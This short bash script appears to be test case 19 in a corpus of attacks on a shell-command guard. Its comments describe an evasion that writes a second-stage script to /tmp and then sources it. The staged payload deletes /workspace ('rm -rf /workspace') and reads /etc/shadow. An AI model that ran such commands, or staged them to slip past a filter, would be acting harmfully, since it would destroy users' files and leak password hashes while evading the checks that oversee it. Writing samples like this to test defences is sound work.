#!/usr/bin/env bash
# attack-class: 19
# title: write a script then source it
# why: the script writes its own second stage to /tmp and sources it

printf 'rm -rf /workspace\ncat /etc/shadow\n' > /tmp/stage2.sh
. /tmp/stage2.sh
